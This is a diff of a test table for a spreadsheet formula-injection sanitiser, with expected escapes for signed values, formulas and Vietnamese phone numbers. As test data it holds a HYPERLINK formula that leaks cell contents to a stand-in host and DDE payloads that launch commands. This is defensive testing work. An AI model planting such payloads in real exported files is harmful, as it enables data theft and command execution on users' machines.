@@ -26,10 +26,26 @@ PLANTED = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-        ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),  # a digit next: a number for Excel
+        # a sign then a digit is still a formula for Excel unless the whole value is a number
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-1-1", "'-1-1"),
+        ("+1e3+cmd|x", "'+1e3+cmd|x"),
+        ('+1*HYPERLINK("http://x.example")', '\'+1*HYPERLINK("http://x.example")'),
+        ("-1&A1", "'-1&A1"),
+        ("+84 912 345 678\t=1", "'+84 912 345 678\t=1"),
         ("-cmd|x", "'-cmd|x"),
+        ("+", "+"),
+        ("-", "-"),
+        # number- and phone-shaped values stay as they are
         ("+84 912 345 678", "+84 912 345 678"),
+        ("+84912345678", "+84912345678"),
+        ("+1 (555) 010-0199", "'+1 (555) 010-0199"),  # a dash inside: Excel computes it
         ("-5", "-5"),
+        ("-1.234,5", "-1.234,5"),
+        ("+(84) 912.345.678", "+(84) 912.345.678"),
+        ("1.234,5", "1.234,5"),
+        ("0912-345-678", "0912-345-678"),  # no sign in front: text for Excel
         ("Nguyễn Văn A", "Nguyễn Văn A"),
         ("", ""),
         (12, 12),
